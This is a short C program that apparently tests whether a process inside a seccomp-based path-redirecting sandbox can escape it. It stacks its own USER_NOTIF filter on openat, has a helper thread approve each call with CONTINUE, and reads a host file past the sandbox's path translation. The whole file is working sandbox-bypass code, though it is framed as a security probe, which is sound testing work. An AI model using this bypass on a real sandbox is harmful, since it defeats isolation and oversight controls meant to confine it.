/* Can a process in a view get a path call past the view with a seccomp filter of its own?
 *
 *   notifbypass PATH
 *
 * Filters stack and the kernel acts on the most severe verdict: SECCOMP_RET_USER_NOTIF ranks above
 * the SECCOMP_RET_TRACE the view's filter returns for path calls. This thread installs a filter
 * returning USER_NOTIF for openat (only on itself, with a listener fd); a second thread answers every
 * notification with SECCOMP_USER_NOTIF_FLAG_CONTINUE, which lets the kernel run the call as it is.
 * If the view never sees that openat, its path is the host's path, not the view's.
 *
 * Prints "filter rc=R", then "open rc=R errno=E" and the first line of the file if it opened.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

static volatile int listener = -1;

static void *answer(void *arg) {
    (void)arg;
    while (listener < 0) usleep(1000);
    for (;;) {
        struct seccomp_notif req;
        struct seccomp_notif_resp resp;
        memset(&req, 0, sizeof req);
        if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) != 0) {
            if (errno == EINTR) continue;
            return NULL;
        }
        memset(&resp, 0, sizeof resp);
        resp.id = req.id;
        resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
        ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
    }
}

int main(int argc, char **argv) {
    if (argc != 2) {
        fprintf(stderr, "usage: notifbypass PATH\n");
        return 2;
    }
    setvbuf(stdout, NULL, _IOLBF, 0);
    pthread_t th;
    pthread_create(&th, NULL, answer, NULL);
    struct sock_filter f[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = {sizeof f / sizeof f[0], f};
    long fd = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
    printf("filter rc=%s\n", fd < 0 ? strerror(errno) : "ok");
    if (fd < 0) return 1;
    listener = (int)fd;
    long o = syscall(SYS_openat, AT_FDCWD, argv[1], O_RDONLY);
    printf("open rc=%s errno=%s\n", o < 0 ? "-1" : "fd", o < 0 ? strerror(errno) : "-");
    if (o >= 0) {
        char buf[256];
        ssize_t n = read((int)o, buf, sizeof buf - 1);
        buf[n > 0 ? n : 0] = 0;
        char *nl = strchr(buf, '\n');
        if (nl) *nl = 0;
        printf("content: %s\n", buf);
    }
    return 0;
}
